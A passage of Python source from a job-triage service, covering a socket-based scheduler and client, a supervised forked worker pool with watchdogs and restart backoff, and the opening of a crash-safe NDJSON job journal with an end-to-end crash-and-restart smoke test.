        self._subscribers: Dict[int, List[Callable[[dict], None]]] = {}

        self.journal = JobJournal(config.journal_path)
        resumed = JobJournal.replay(config.journal_path)
        self._done.update(resumed.done)
        for entry in resumed.pending:
            self._admit_locked(_QueueEntry(
                job=entry.job, priority=entry.priority, tenant=entry.tenant,
            ), journal=False)  # already journaled; re-accepting would dupe
            self._ctr_resumed.inc()

        self.pool = WorkerPool(
            size=config.workers,
            timeout=config.timeout,
            heartbeat_timeout=config.heartbeat_timeout,
        )
        self._stop = threading.Event()
        self._dispatcher = threading.Thread(
            target=self._dispatch_loop, name="serve-dispatcher", daemon=True
        )
        self._started_at = time.monotonic()

    # ------------------------------------------------------------------
    # admission (called from the asyncio domain, under the lock)
    # ------------------------------------------------------------------

    def _tenant_load(self, tenant: str) -> int:
        return sum(1 for e in self._outstanding.values() if e.tenant == tenant)

    def _queued_total(self) -> int:
        return sum(len(lane) for lane in self._lanes.values())

    def _admit_locked(self, entry: _QueueEntry, journal: bool = True) -> None:
        if journal:
            self.journal.append_accept(entry.job, priority=entry.priority,
                                       tenant=entry.tenant)
        self._lanes[entry.priority].append(entry)
        self._outstanding[entry.job.job_id] = entry

    def submit(self, job_dict: dict, priority: str = "normal",
               tenant: str = "default") -> dict:
        """Admit one job; returns its ack/reject/dedupe record."""
        if priority not in PRIORITIES:
            return {"rec": "reject", "job_id": job_dict.get("job_id"),
                    "reason": f"unknown priority {priority!r}"}
        try:
            job = job_from_json_dict(job_dict)
        except (KeyError, TypeError) as exc:
            return {"rec": "reject", "job_id": job_dict.get("job_id"),
                    "reason": f"malformed job: {exc}"}
        with self._lock:
            if job.job_id in self._done:
                # Exactly-once across resubmission: the work already
                # happened, the journaled row stands in for a re-run.
                return {"rec": "ack", "job_id": job.job_id, "accepted": True,
                        "duplicate": "done"}
            if job.job_id in self._outstanding:
                return {"rec": "ack", "job_id": job.job_id, "accepted": True,
                        "duplicate": "outstanding"}
            if self._queued_total() >= self.config.max_queued:
                self._ctr_rejected.inc()
                return {"rec": "reject", "job_id": job.job_id,
                        "reason": "backpressure: queue full"}
            quota = self.config.tenant_quota
            if quota is not None and self._tenant_load(tenant) >= quota:
                self._ctr_rejected.inc()
                return {"rec": "reject", "job_id": job.job_id,
                        "reason": f"tenant {tenant!r} over quota ({quota})"}
            self._admit_locked(_QueueEntry(job=job, priority=priority,
                                           tenant=tenant))
            self._ctr_accepted.inc()
        return {"rec": "ack", "job_id": job.job_id, "accepted": True}

    def subscribe(self, job_ids: Sequence[int],
                  callback: Callable[[dict], None]) -> List[dict]:
        """Register *callback* for rows; returns already-done rows now."""
        ready: List[dict] = []
        with self._lock:
            for jid in job_ids:
                row = self._done.get(jid)
                if row is not None:
                    ready.append({"rec": "result", "result": row})
                else:
                    self._subscribers.setdefault(jid, []).append(callback)
        return ready

    # ------------------------------------------------------------------
    # views
    # ------------------------------------------------------------------

    def health(self) -> dict:
        with self._lock:
            queued = {p: len(lane) for p, lane in self._lanes.items()}
            inflight = len(self._inflight)
            done = len(self._done)
        return {
            "rec": "health",
            "ok": not self._stop.is_set(),
            "uptime_s": round(time.monotonic() - self._started_at, 3),
            "queued": queued,
            "inflight": inflight,
            "done": done,
            "pool": self.pool.stats(),
        }

    def metrics_view(self) -> dict:
        return {"rec": "metrics", "metrics": self.metrics.snapshot()}

    # ------------------------------------------------------------------
    # the dispatcher thread
    # ------------------------------------------------------------------

    def _next_entry_locked(self) -> Optional[_QueueEntry]:
        for priority in PRIORITIES:
            lane = self._lanes[priority]
            if lane:
                return lane.popleft()
        return None

    def _dispatch_ready(self) -> None:
        max_inflight = self.config.max_inflight or self.config.workers
        while True:
            with self._lock:
                if len(self._inflight) >= max_inflight:
                    return
                entry = self._next_entry_locked()
                if entry is None:
                    return
                self._inflight[entry.job.job_id] = entry
            if not self.pool.submit(entry.job, attempt=entry.attempt):
                # No idle worker after all (restart backoff in progress):
                # put it back at the head of its lane.
                with self._lock:
                    del self._inflight[entry.job.job_id]
                    self._lanes[entry.priority].appendleft(entry)
                return

    def _complete(self, result: TriageResult) -> None:
        """Checkpoint + emit one finished row (the exactly-once edge)."""
        row = result.to_json_dict()
        with self._lock:
            self.journal.append_done(result)
            self._done[result.job_id] = row
            self._inflight.pop(result.job_id, None)
            self._outstanding.pop(result.job_id, None)
            callbacks = self._subscribers.pop(result.job_id, [])
            self._ctr_completed.inc()
        payload = {"rec": "result", "result": row}
        for callback in callbacks:
            callback(payload)

    def _handle_death(self, event) -> None:
        job = event.job
        with self._lock:
            entry = self._inflight.pop(job.job_id, None)
        if entry is None:  # pragma: no cover - stale event
            return
        retryable = event.fault.retryable and event.kind != "timeout"
        if retryable and entry.attempt <= self.config.max_retries:
            entry.attempt += 1
            with self._lock:
                self._lanes[entry.priority].appendleft(entry)
                self._ctr_retries.inc()
            return
        self._complete(_error_result(
            job, entry.attempt,
            f"{event.fault.kind}: {event.fault.detail} "
            f"on attempt {entry.attempt}/{self.config.max_retries + 1}",
            fault=event.fault.to_json_dict(),
        ))

    def _dispatch_loop(self) -> None:
        while not self._stop.is_set():
            self._dispatch_ready()
            for event in self.pool.poll(0.05):
                if event.kind == "result":
                    self._complete(event.result)
                else:
                    self._handle_death(event)
        self.pool.shutdown(graceful=True)

    # ------------------------------------------------------------------
    # lifecycle
    # ------------------------------------------------------------------

    def start(self) -> None:
        self._dispatcher.start()

    def stop(self) -> None:
        self._stop.set()
        self._dispatcher.join(timeout=10.0)
        self.journal.close()


# ----------------------------------------------------------------------
# the asyncio socket front end
# ----------------------------------------------------------------------

async def _handle_connection(service: TriageService, reader, writer) -> None:
    loop = asyncio.get_running_loop()
    out: asyncio.Queue = asyncio.Queue()

    def emit(payload: dict) -> None:
        # Called from the dispatcher thread.
        loop.call_soon_threadsafe(out.put_nowait, payload)

    async def drain_out() -> None:
        while True:
            payload = await out.get()
            if payload is None:
                return
            try:
                writer.write((json.dumps(payload) + "\n").encode())
                await writer.drain()
            except (ConnectionResetError, BrokenPipeError, OSError):
                # The peer hung up mid-stream (e.g. right after sending
                # ``shutdown``); nothing left to deliver.  Must not leak
                # out of the handler's finally -- it would mask
                # _ShutdownRequested and wedge the server.
                return

    drainer = asyncio.ensure_future(drain_out())
    try:
        while True:
            line = await reader.readline()
            if not line:
                break
            try:
                request = json.loads(line)
            except json.JSONDecodeError:
                out.put_nowait({"rec": "error", "reason": "bad json"})
                continue
            op = request.get("op")
            if op == "submit":
                priority = request.get("priority", "normal")
                tenant = request.get("tenant", "default")
                accepted_ids = []
                for job_dict in request.get("jobs", []):
                    ack = service.submit(job_dict, priority=priority,
                                         tenant=tenant)
                    out.put_nowait(ack)
                    if ack["rec"] == "ack":
                        accepted_ids.append(ack["job_id"])
                for payload in service.subscribe(accepted_ids, emit):
                    out.put_nowait(payload)
            elif op == "await":
                ids = [int(j) for j in request.get("job_ids", [])]
                for payload in service.subscribe(ids, emit):
                    out.put_nowait(payload)
            elif op == "health":
                out.put_nowait(service.health())
            elif op == "metrics":
                out.put_nowait(service.metrics_view())
            elif op == "shutdown":
                out.put_nowait({"rec": "bye"})
                raise _ShutdownRequested()
            else:
                out.put_nowait({"rec": "error", "reason": f"unknown op {op!r}"})
    finally:
        out.put_nowait(None)
        try:
            await asyncio.wait_for(drainer, timeout=5.0)
        except asyncio.TimeoutError:  # pragma: no cover
            drainer.cancel()
        writer.close()


class _ShutdownRequested(Exception):
    pass


async def _serve_async(service: TriageService) -> None:
    stop_event = asyncio.Event()

    async def handler(reader, writer):
        try:
            await _handle_connection(service, reader, writer)
        except _ShutdownRequested:
            stop_event.set()

    path = service.config.socket_path
    if os.path.exists(path):
        os.unlink(path)
    server = await asyncio.start_unix_server(handler, path=path)
    async with server:
        await stop_event.wait()


def run_service(config: ServeConfig) -> None:
    """Run the service until a client sends ``shutdown`` (blocking)."""
    service = TriageService(config)
    service.start()
    try:
        asyncio.run(_serve_async(service))
    finally:
        service.stop()
        if os.path.exists(config.socket_path):
            os.unlink(config.socket_path)


# ----------------------------------------------------------------------
# the synchronous client (tests, CLI, smoke)
# ----------------------------------------------------------------------

class ServeClient:
    """Blocking NDJSON client for one service socket."""

    def __init__(self, socket_path: str, timeout: float = 120.0) -> None:
        self._sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self._sock.settimeout(timeout)
        self._sock.connect(socket_path)
        self._fh = self._sock.makefile("rwb")

    @classmethod
    def connect(cls, socket_path: str, timeout: float = 120.0,
                retry_for: float = 10.0) -> "ServeClient":
        """Connect, retrying while the service finishes starting up."""
        deadline = time.monotonic() + retry_for
        while True:
            try:
                return cls(socket_path, timeout=timeout)
            except (FileNotFoundError, ConnectionRefusedError):
                if time.monotonic() >= deadline:
                    raise
                time.sleep(0.05)

    def _send(self, request: dict) -> None:
        self._fh.write((json.dumps(request) + "\n").encode())
        self._fh.flush()

    def _recv(self) -> dict:
        line = self._fh.readline()
        if not line:
            raise ConnectionError("service closed the connection")
        return json.loads(line)

    def submit(self, jobs: Sequence[TriageJob], priority: str = "normal",
               tenant: str = "default") -> List[dict]:
        """Submit *jobs*; returns their ack/reject records."""
        self._send({
            "op": "submit",
            "jobs": [job_to_json_dict(j) for j in jobs],
            "priority": priority,
            "tenant": tenant,
        })
        return [self._recv() for _ in jobs]

    def await_jobs(self, job_ids: Sequence[int]) -> None:
        self._send({"op": "await", "job_ids": list(job_ids)})

    def next_result(self) -> TriageResult:
        """Block for the next streamed result row."""
        while True:
            record = self._recv()
            if record.get("rec") == "result":
                return TriageResult.from_json_dict(record["result"])
            if record.get("rec") in ("error", "reject"):
                raise RuntimeError(f"service error: {record}")
            # acks and view records interleave; skip them here.

    def collect(self, job_ids: Sequence[int]) -> Dict[int, TriageResult]:
        """Block until a row for every id in *job_ids* has streamed in
        (the subscription must already exist: submit or await_jobs)."""
        wanted: Set[int] = set(job_ids)
        rows: Dict[int, TriageResult] = {}
        while wanted:
            result = self.next_result()
            if result.job_id in wanted:
                wanted.discard(result.job_id)
                rows[result.job_id] = result
        return rows

    def health(self) -> dict:
        self._send({"op": "health"})
        while True:
            record = self._recv()
            if record.get("rec") == "health":
                return record

    def metrics(self) -> dict:
        self._send({"op": "metrics"})
        while True:
            record = self._recv()
            if record.get("rec") == "metrics":
                return record["metrics"]

    def shutdown(self) -> None:
        self._send({"op": "shutdown"})

    def close(self) -> None:
        try:
            self._fh.close()
        finally:
            self._sock.close()

    def __enter__(self) -> "ServeClient":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


# ----------------------------------------------------------------------
# the smoke scenario (CI's serve-smoke job; also a test helper)
# ----------------------------------------------------------------------

def _spawn_service(config: ServeConfig):
    """The service as a child process (so the smoke can SIGKILL it)."""
    import subprocess
    import sys

    argv = [
        sys.executable, "-m", "repro", "serve",
        "--socket", config.socket_path,
        "--journal", config.journal_path,
        "--jobs", str(config.workers),
    ]
    if config.timeout:
        argv += ["--timeout", str(config.timeout)]
    env = dict(os.environ)
    src_root = os.path.dirname(os.path.dirname(os.path.dirname(__file__)))
    env["PYTHONPATH"] = src_root + os.pathsep + env.get("PYTHONPATH", "")
    return subprocess.Popen(argv, env=env)


def run_smoke(workdir: str, attacks: Sequence[str] = ("code_injection",),
              workers: int = 2) -> dict:
    """The end-to-end smoke: mixed batch, one injected worker crash,
    then kill-and-restart mid-backlog.  Returns a summary dict; raises
    AssertionError on any lost job, duplicated execution, or mismatch
    against the serial baseline.
    """
    from repro.analysis.triage import execute_job

    os.makedirs(workdir, exist_ok=True)
    sock = os.path.join(workdir, "serve.sock")
    journal = os.path.join(workdir, "serve.journal")
    log = os.path.join(workdir, "executions.log")
    marker = os.path.join(workdir, "crash-once.marker")
    config = ServeConfig(socket_path=sock, journal_path=journal,
                         workers=workers)

    # --- phase 1: mixed batch with one injected worker crash ----------
    jobs: List[TriageJob] = []
    jid = 0
    for attack in attacks:
        jobs.append(TriageJob(job_id=jid, name=attack, kind="attack",
                              params={"attack": attack}))
        jid += 1
    jobs.append(TriageJob(
        job_id=jid, name="crash-once", kind="pyfunc",
        params={"target": "repro.serve.harness:smoke_crash_once_job",
                "kwargs": {"marker_path": marker, "log_path": log,
                           "token": f"job-{jid}"}}))
    crash_id = jid
    jid += 1
    for i in range(3):
        jobs.append(TriageJob(
            job_id=jid, name=f"touch-{i}", kind="pyfunc",
            params={"target": "repro.serve.harness:smoke_touch_job",
                    "kwargs": {"log_path": log, "token": f"job-{jid}"}}))
        jid += 1

    proc = _spawn_service(config)
    try:
        with ServeClient.connect(sock, retry_for=30.0) as client:
            acks = client.submit(jobs)
            assert all(a["rec"] == "ack" for a in acks), f"rejected: {acks}"
            rows = client.collect([j.job_id for j in jobs])
            assert client.health()["ok"]
            client.shutdown()
        proc.wait(timeout=30.0)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()

    assert len(rows) == len(jobs), "phase 1 lost jobs"
    assert all(r.status == "OK" for r in rows.values()), {
        i: (r.status, r.error) for i, r in rows.items() if r.status != "OK"}
    assert rows[crash_id].attempts == 2, "crash job was not retried"

    # Serial baseline: the marker now exists, so the crash job runs
    # clean; every row must match the service's on stable fields.
    volatile = {"duration_s", "worker_pid", "attempts", "metrics"}
    for job in jobs:
        baseline = execute_job(job).to_json_dict()
        served = rows[job.job_id].to_json_dict()
        for k in volatile:
            baseline.pop(k, None), served.pop(k, None)
        if job.job_id == crash_id or job.kind == "pyfunc":
            # Side-effect jobs append to the log on every run; compare
            # status/verdict only.
            assert (baseline["status"], baseline["verdict"]) == \
                   (served["status"], served["verdict"]), job
        else:
            assert baseline == served, f"serial mismatch for {job}"

    # Each phase-1 pyfunc job executed exactly once through the service
    # (the baseline re-runs above appended one more line per job).
    with open(log, encoding="utf-8") as fh:
        counts: Dict[str, int] = {}
        for line in fh:
            counts[line.strip()] = counts.get(line.strip(), 0) + 1
    for job in jobs:
        if job.kind == "pyfunc":
            token = job.params["kwargs"]["token"]
            assert counts.get(token) == 2, (token, counts)

    # --- phase 2: SIGKILL mid-backlog, restart, exactly-once resume ---
    log2 = os.path.join(workdir, "executions2.log")
    # One slow head per worker pins the whole pool, so nothing behind
    # them can have executed when the SIGKILL lands -- the restart then
    # runs each backlog job for the first and only time.
    backlog = [
        TriageJob(job_id=90 + i, name=f"slow-head-{i}", kind="pyfunc",
                  params={"target": "repro.serve.harness:smoke_sleep_job",
                          "kwargs": {"seconds": 5.0}})
        for i in range(workers)
    ]
    backlog += [
        TriageJob(job_id=100 + i, name=f"backlog-{i}", kind="pyfunc",
                  params={"target": "repro.serve.harness:smoke_touch_job",
                          "kwargs": {"log_path": log2,
                                     "token": f"job-{100 + i}"}})
        for i in range(8)
    ]

    proc = _spawn_service(config)
    try:
        with ServeClient.connect(sock, retry_for=30.0) as client:
            acks = client.submit(backlog)
            assert all(a["rec"] == "ack" for a in acks)
    finally:
        proc.kill()  # mid-backlog, no grace
        proc.wait()

    proc = _spawn_service(config)
    try:
        with ServeClient.connect(sock, retry_for=30.0) as client:
            client.await_jobs([j.job_id for j in backlog])
            rows2 = client.collect([j.job_id for j in backlog])
            client.shutdown()
        proc.wait(timeout=30.0)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()

    assert len(rows2) == len(backlog), "restart lost jobs"
    with open(log2, encoding="utf-8") as fh:
        counts2: Dict[str, int] = {}
        for line in fh:
            counts2[line.strip()] = counts2.get(line.strip(), 0) + 1
    dupes = {t: c for t, c in counts2.items() if c != 1}
    assert not dupes, f"jobs executed more than once across restart: {dupes}"
    assert len(counts2) == len(backlog) - workers, "backlog executions missing"

    return {
        "phase1_jobs": len(jobs),
        "phase1_ok": True,
        "crash_attempts": rows[crash_id].attempts,
        "phase2_jobs": len(backlog),
        "phase2_exactly_once": True,
    }
