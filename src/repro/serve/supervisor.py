"""Supervised triage workers: heartbeats, watchdogs, restart-with-backoff.

The triage pool in :mod:`repro.analysis.triage` is batch-shaped: it
lives for one ``run_triage`` call and its crash handling is woven into
the dispatch loop.  A long-running service needs the supervision
concerns pulled out into a tree it can reason about:

* :class:`SupervisedWorker` -- one child process executing one job at a
  time, built on raw ``os.fork`` rather than :mod:`multiprocessing`
  processes.  That choice is load-bearing twice over: forked children
  are not "daemonic", so a supervised worker can itself run nested
  worker pools (the chaos harness exercises exactly this), and fork
  from a snapshot-primed parent shares the captured memory pages at
  the OS CoW level across the whole fleet.
* :class:`WorkerPool` -- N slots, each holding a worker.  ``poll()``
  surfaces results, crashes, per-job watchdog expiries, and
  heartbeat stalls as events; dead slots restart with exponential
  backoff; every death is classified through the
  :mod:`repro.faults` taxonomy (``WorkerCrash``/``WorkerStalled``/
  ``Timeout``) so the caller's retry policy is one table lookup.

The pool deliberately owns no retry policy and no queue -- those belong
to the service's scheduler (:mod:`repro.serve.service`), which also
journals them.
"""

from __future__ import annotations

import multiprocessing
import os
import signal
import time
from dataclasses import dataclass
from multiprocessing.connection import wait as _connection_wait
from typing import Callable, List, Optional

from repro.analysis.triage import TriageJob, TriageResult, execute_job
from repro.faults.errors import FaultRecord
from repro.faults.watchdog import (
    PROGRESS_SLOTS,
    SharedProgressSink,
    read_progress,
    set_progress_sink,
)

#: Default wall-clock staleness (seconds) of a worker's progress array
#: before the supervisor declares it wedged.  Generous: a healthy guest
#: publishes once per scheduler slice (~thousands of times a second).
DEFAULT_HEARTBEAT_TIMEOUT = 30.0

#: Restart backoff: base * 2**(consecutive_failures - 1), capped.
DEFAULT_RESTART_BACKOFF = 0.05
MAX_RESTART_BACKOFF = 5.0


def _child_main(conn, progress, run_job: Callable) -> None:
    """The forked worker body.  Never returns -- exits the process."""
    set_progress_sink(SharedProgressSink(progress))
    # The service parent handles SIGINT/SIGTERM itself; workers must not
    # die to a Ctrl-C aimed at the foreground process group.
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    code = 0
    try:
        while True:
            try:
                msg = conn.recv()
            except (EOFError, OSError):
                break
            if msg is None:
                break
            job, attempt = msg
            result = run_job(job, attempt=attempt)
            # Heartbeat for jobs that never enter the machine run loop
            # (pyfunc jobs): completing a job is progress too.
            progress[3] = 1
            try:
                conn.send(result)
            except (BrokenPipeError, OSError):
                break
    except BaseException:  # pragma: no cover - crash visibility
        import traceback

        traceback.print_exc()
        code = 1
    finally:
        # _exit: no atexit handlers, no flushing parent-inherited state.
        os._exit(code)


class SupervisedWorker:
    """One ``os.fork`` worker executing one job at a time.

    The pipe and progress array are created *before* the fork so both
    sides inherit them; the parent keeps one end, the child the other.
    """

    def __init__(self, run_job: Callable = execute_job) -> None:
        self._run_job = run_job
        self.conn, child_conn = multiprocessing.Pipe()
        self.progress = multiprocessing.Array("q", PROGRESS_SLOTS, lock=False)
        SharedProgressSink(self.progress).reset()
        pid = os.fork()
        if pid == 0:
            # Child: drop the parent's pipe end and serve jobs forever.
            self.conn.close()
            _child_main(child_conn, self.progress, run_job)
            os._exit(0)  # pragma: no cover - _child_main never returns
        child_conn.close()
        self.pid = pid
        self.job: Optional[TriageJob] = None
        self.attempt = 0
        self.deadline: Optional[float] = None
        self.submitted_at: Optional[float] = None
        self._last_beat: Optional[dict] = None
        self._last_beat_at: float = time.monotonic()
        self._reaped: Optional[int] = None

    # -- job lifecycle -----------------------------------------------------------

    def submit(self, job: TriageJob, attempt: int = 1,
               timeout: Optional[float] = None) -> None:
        if self.job is not None:
            raise RuntimeError(f"worker {self.pid} already has a job in flight")
        SharedProgressSink(self.progress).reset()
        self._last_beat = None
        self._last_beat_at = time.monotonic()
        self.conn.send((job, attempt))
        self.job, self.attempt = job, attempt
        self.submitted_at = time.monotonic()
        self.deadline = time.monotonic() + timeout if timeout else None

    def finish(self) -> None:
        self.job, self.attempt = None, 0
        self.deadline = self.submitted_at = None

    def last_progress(self) -> Optional[dict]:
        return read_progress(self.progress)

    # -- health ------------------------------------------------------------------

    def heartbeat_age(self) -> float:
        """Seconds since the worker last *advanced* its progress."""
        current = self.last_progress()
        if current != self._last_beat:
            self._last_beat = current
            self._last_beat_at = time.monotonic()
        return time.monotonic() - self._last_beat_at

    def alive(self) -> bool:
        if self._reaped is not None:
            return False
        pid, status = os.waitpid(self.pid, os.WNOHANG)
        if pid == self.pid:
            self._reaped = status
            return False
        return True

    @property
    def exit_status(self) -> Optional[int]:
        return self._reaped

    # -- teardown ----------------------------------------------------------------

    def kill(self) -> None:
        """SIGKILL and reap.  Safe to call repeatedly."""
        if self._reaped is None:
            try:
                os.kill(self.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            try:
                _, self._reaped = os.waitpid(self.pid, 0)
            except ChildProcessError:  # pragma: no cover - reaped elsewhere
                self._reaped = -1
        try:
            self.conn.close()
        except OSError:  # pragma: no cover
            pass

    def close(self) -> None:
        """Graceful stop: sentinel, short grace, then kill."""
        try:
            self.conn.send(None)
        except (BrokenPipeError, OSError):
            pass
        deadline = time.monotonic() + 1.0
        while time.monotonic() < deadline:
            if not self.alive():
                try:
                    self.conn.close()
                except OSError:  # pragma: no cover
                    pass
                return
            time.sleep(0.005)
        self.kill()


@dataclass
class WorkerEvent:
    """One thing the pool observed during :meth:`WorkerPool.poll`.

    ``kind`` is ``"result"`` (``result`` set) or one of the death kinds
    ``"crash"`` / ``"timeout"`` / ``"stalled"`` (``fault`` set, carrying
    the worker's last published guest state).  Death events always mean
    the in-flight ``job`` did not produce a result; the pool has already
    scheduled the slot's replacement.
    """

    kind: str
    job: Optional[TriageJob] = None
    attempt: int = 0
    result: Optional[TriageResult] = None
    fault: Optional[FaultRecord] = None


@dataclass
class _Slot:
    worker: Optional[SupervisedWorker] = None
    failures: int = 0
    restart_at: float = 0.0
    restarts: int = 0


class WorkerPool:
    """N supervised slots with restart-on-death and health surfacing.

    The pool is a mechanism, not a policy: :meth:`poll` reports what
    happened and keeps every slot eventually-alive; deciding whether a
    dead job is retried (its fault is ``retryable``) or becomes an
    ERROR row is the caller's move.
    """

    def __init__(self, size: int,
                 timeout: Optional[float] = None,
                 heartbeat_timeout: float = DEFAULT_HEARTBEAT_TIMEOUT,
                 restart_backoff: float = DEFAULT_RESTART_BACKOFF,
                 run_job: Callable = execute_job) -> None:
        self.size = max(1, size)
        self.timeout = timeout
        self.heartbeat_timeout = heartbeat_timeout
        self.restart_backoff = restart_backoff
        self._run_job = run_job
        self._slots: List[_Slot] = []
        for _ in range(self.size):
            slot = _Slot()
            self._spawn(slot)
            self._slots.append(slot)

    # -- slot management ---------------------------------------------------------

    def _spawn(self, slot: _Slot) -> None:
        slot.worker = SupervisedWorker(self._run_job)

    def _schedule_restart(self, slot: _Slot) -> None:
        slot.worker = None
        slot.failures += 1
        slot.restarts += 1
        delay = min(
            self.restart_backoff * (2 ** (slot.failures - 1)),
            MAX_RESTART_BACKOFF,
        )
        slot.restart_at = time.monotonic() + delay

    def _restart_due(self) -> None:
        now = time.monotonic()
        for slot in self._slots:
            if slot.worker is None and slot.restart_at <= now:
                self._spawn(slot)

    # -- capacity ----------------------------------------------------------------

    def idle_workers(self) -> List[SupervisedWorker]:
        self._restart_due()
        return [s.worker for s in self._slots
                if s.worker is not None and s.worker.job is None]

    def busy_count(self) -> int:
        return sum(1 for s in self._slots
                   if s.worker is not None and s.worker.job is not None)

    def in_flight(self) -> List[TriageJob]:
        return [s.worker.job for s in self._slots
                if s.worker is not None and s.worker.job is not None]

    def stats(self) -> dict:
        return {
            "size": self.size,
            "busy": self.busy_count(),
            "idle": len(self.idle_workers()),
            "restarts": sum(s.restarts for s in self._slots),
            "pending_restarts": sum(1 for s in self._slots if s.worker is None),
        }

    # -- the supervision pass ----------------------------------------------------

    def submit(self, job: TriageJob, attempt: int = 1) -> bool:
        """Hand *job* to an idle worker; False when none is available."""
        idle = self.idle_workers()
        if not idle:
            return False
        idle[0].submit(job, attempt, timeout=self.timeout)
        return True

    def poll(self, wait: float = 0.1) -> List[WorkerEvent]:
        """One supervision pass: collect results, detect deaths.

        Blocks up to *wait* seconds for pipe activity, then sweeps
        watchdog deadlines and heartbeats.  Every event about an
        in-flight job is returned exactly once; dead slots are already
        scheduled for backoff restart when this returns.
        """
        events: List[WorkerEvent] = []
        self._restart_due()
        busy = {s.worker.conn: s for s in self._slots
                if s.worker is not None and s.worker.job is not None}
        if busy:
            budget = wait
            now = time.monotonic()
            deadlines = [
                max(0.0, w.deadline - now)
                for w in (s.worker for s in busy.values())
                if w.deadline is not None
            ]
            if deadlines:
                budget = min(budget, min(deadlines))
            ready = _connection_wait(list(busy), timeout=budget)
        else:
            time.sleep(min(wait, 0.01))
            ready = []
        for conn in ready:
            slot = busy[conn]
            worker = slot.worker
            try:
                result = conn.recv()
            except (EOFError, OSError):
                events.append(self._death(slot, "crash"))
                continue
            job, attempt = worker.job, worker.attempt
            worker.finish()
            slot.failures = 0  # a completed job proves the slot healthy
            events.append(WorkerEvent(kind="result", job=job,
                                      attempt=attempt, result=result))
        now = time.monotonic()
        for slot in self._slots:
            worker = slot.worker
            if worker is None or worker.job is None:
                continue
            if worker.deadline is not None and now >= worker.deadline:
                events.append(self._death(slot, "timeout"))
            elif not worker.alive():
                events.append(self._death(slot, "crash"))
            elif (self.heartbeat_timeout
                  and worker.heartbeat_age() > self.heartbeat_timeout):
                events.append(self._death(slot, "stalled"))
        return events

    def _death(self, slot: _Slot, kind: str) -> WorkerEvent:
        worker = slot.worker
        job, attempt = worker.job, worker.attempt
        progress = worker.last_progress() or {}
        exit_status = worker.exit_status
        worker.kill()
        self._schedule_restart(slot)
        fault_kind, detail = {
            "crash": ("WorkerCrash",
                      f"worker pid {worker.pid} died"
                      f" (wait status {exit_status})"),
            "timeout": ("Timeout",
                        f"exceeded {self.timeout:g}s wall clock"
                        if self.timeout else "deadline exceeded"),
            "stalled": ("WorkerStalled",
                        f"no progress for {self.heartbeat_timeout:g}s"),
        }[kind]
        fault = FaultRecord(
            kind=fault_kind, detail=detail,
            tick=progress.get("tick"), pc=progress.get("pc"),
            syscall=progress.get("syscall"),
        )
        return WorkerEvent(kind=kind, job=job, attempt=attempt, fault=fault)

    # -- teardown ----------------------------------------------------------------

    def shutdown(self, graceful: bool = True) -> None:
        for slot in self._slots:
            worker = slot.worker
            slot.worker = None
            if worker is None:
                continue
            if graceful and worker.job is None:
                worker.close()
            else:
                worker.kill()

    def __enter__(self) -> "WorkerPool":
        return self

    def __exit__(self, *exc) -> None:
        self.shutdown(graceful=exc[0] is None)
