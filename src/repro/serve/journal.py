"""The crash-safe job journal: accept before execute, checkpoint on done.

The service's exactly-once contract rests on a write ordering, not on
any clever recovery logic:

1. An ``accept`` record is appended **and flushed** before the job is
   acknowledged to the client or dispatched to a worker.
2. A ``done`` record -- carrying the full serialized
   :class:`~repro.analysis.triage.TriageResult` -- is appended before
   the result row is emitted to any subscriber.

Kill the process anywhere and :meth:`JobJournal.replay` partitions the
accepted set into *done* (their results are on disk, re-emittable
verbatim, never re-executed) and *pending* (accepted but unfinished,
re-enqueued in acceptance order).  A torn final line -- the crash landed
mid-``write`` -- fails JSON parsing and is ignored: a torn ``accept``
was never acknowledged, a torn ``done`` re-executes its job, and both
re-appends are idempotent at the row level because results key by
``job_id``.

Format: newline-delimited JSON, one self-describing record per line::

    {"rec": "journal", "version": 1}
    {"rec": "accept", "job": {...}, "priority": "normal", "tenant": "t0", "seq": 0}
    {"rec": "done", "job_id": 7, "result": {...}, "seq": 1}

Plain NDJSON keeps the journal greppable and append-only -- no index,
no compaction; restart cost is one linear scan.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Dict, List, Optional, TextIO

from repro.analysis.triage import TriageJob, TriageResult

JOURNAL_VERSION = 1

REC_HEADER = "journal"
REC_ACCEPT = "accept"
REC_DONE = "done"


def job_to_json_dict(job: TriageJob) -> dict:
    return {
        "job_id": job.job_id,
        "name": job.name,
        "kind": job.kind,
        "params": dict(job.params),
    }


def job_from_json_dict(d: dict) -> TriageJob:
    return TriageJob(
        job_id=d["job_id"], name=d["name"], kind=d["kind"],
        params=dict(d.get("params") or {}),
    )


@dataclass
class AcceptedJob:
    """One accepted-but-possibly-unfinished journal entry."""

    job: TriageJob
    priority: str = "normal"
    tenant: str = "default"
    seq: int = 0


@dataclass
class JournalState:
    """What a replayed journal says about the world."""

    #: job_id -> accepted entry, in acceptance order.
    accepted: Dict[int, AcceptedJob] = field(default_factory=dict)
    #: job_id -> serialized TriageResult dict, completion order.
    done: Dict[int, dict] = field(default_factory=dict)
    #: Lines that failed to parse (at most the torn tail; more than one
    #: bad line means the file was corrupted, not torn).
    torn_lines: int = 0

    @property
    def pending(self) -> List[AcceptedJob]:
        """Accepted jobs with no completion record, acceptance order."""
        return [e for jid, e in self.accepted.items() if jid not in self.done]

    def results(self) -> List[TriageResult]:
        """Completed results, rebuilt, in completion order."""
        return [TriageResult.from_json_dict(d) for d in self.done.values()]


class JournalCorrupt(Exception):
    """The journal contains garbage that is not a torn tail."""


class JobJournal:
    """Append-only NDJSON journal with explicit flush points.

    One instance owns the file handle for the life of the service; the
    classmethod :meth:`replay` reads without owning.
    """

    def __init__(self, path: str) -> None:
        self.path = path
        self._seq = 0
        existing = os.path.exists(path) and os.path.getsize(path) > 0
        self._fh: TextIO = open(path, "a", encoding="utf-8")
        if not existing:
            self._append({"rec": REC_HEADER, "version": JOURNAL_VERSION})

    # -- writing -----------------------------------------------------------------

    def _append(self, record: dict) -> None:
        record["seq"] = self._seq
        self._seq += 1
        self._fh.write(json.dumps(record, sort_keys=True) + "\n")
        self._fh.flush()
        os.fsync(self._fh.fileno())

    def append_accept(self, job: TriageJob, priority: str = "normal",
                      tenant: str = "default") -> None:
        """Durably record *job* as accepted.  MUST precede dispatch/ack."""
        self._append({
            "rec": REC_ACCEPT,
            "job": job_to_json_dict(job),
            "priority": priority,
            "tenant": tenant,
        })

